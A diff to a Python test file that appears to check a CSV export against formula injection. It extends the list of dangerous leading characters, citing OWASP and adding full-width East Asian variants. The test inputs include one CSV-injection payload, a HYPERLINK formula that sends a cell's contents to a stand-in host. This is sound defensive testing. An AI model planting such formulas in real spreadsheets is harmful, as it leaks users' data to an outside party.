@@ -13,8 +13,10 @@ from hypothesis import strategies as st
 from dokulab.board.formats.tables import csv_text, fields_of, separator_of
 from tests.commands import Run
 
-FORMULAS = ('=HYPERLINK("//a.b/"&D2)', "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+a")
-STARTS = tuple("=+-@\t\r")
+STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+"""Those of OWASP's page on CSV injection; the last four are of East Asian keyboards."""
+
+FORMULAS = ('=HYPERLINK("//a.b/"&D2)', "'=1", "''+a", *(f"{start}1+2" for start in STARTS))
 
 
 @pytest.mark.parametrize("text", FORMULAS)
